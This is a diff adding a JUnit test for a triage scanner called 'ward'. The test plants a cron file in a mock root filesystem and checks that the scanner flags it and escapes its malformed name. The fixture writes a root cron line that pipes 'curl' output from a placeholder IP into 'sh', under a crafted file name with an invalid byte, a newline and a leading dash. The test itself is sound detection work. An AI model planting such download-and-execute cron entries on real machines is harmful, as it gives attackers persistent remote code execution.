@@ -104,4 +104,28 @@ class MainTest {
             assertTrue(files.noneMatch(p -> p.getFileName().toString().endsWith(".part")), "no partial file left");
         }
     }
+
+    @Test
+    void namesThatAreNotTextAreReportedEscaped() throws Exception {
+        Path root = dir.resolve("root");
+        Files.createDirectories(root.resolve("etc/cron.d"));
+        Files.createDirectories(root.resolve("var/lib/dpkg/info"));
+        Files.writeString(root.resolve("var/lib/dpkg/info/base-files.list"), "/.\n/etc\n");
+        Files.writeString(root.resolve("etc/passwd"), "root:x:0:0::/root:/bin/bash\n");
+        Files.writeString(root.resolve("etc/shadow"), "root:*:20000:0:99999:7:::\n");
+        // A cron file whose name holds an invalid UTF-8 byte, a newline and a leading '-'.
+        Process p = new ProcessBuilder("sh", "-c",
+                "printf '* * * * * root curl -s http://198.51.100.7/x | sh\\n' > \"$(printf -- '-x\\377\\ny')\"")
+                .directory(root.resolve("etc/cron.d").toFile()).start();
+        assertEquals(0, p.waitFor());
+        Path report = dir.resolve("report.json");
+        Run r = ward("triage", "--root", root.toString(), "--format", "json", "-o", report.toString());
+        assertEquals(8, r.status() & 8, r.err());
+        JsonNode json = new ObjectMapper().readTree(report.toFile());
+        boolean seen = false;
+        for (JsonNode f : json.get("findings")) {
+            seen |= f.get("paths").toString().contains("/etc/cron.d/-x\\\\xff\\\\ny");
+        }
+        assertTrue(seen, json.toString());
+    }
 }
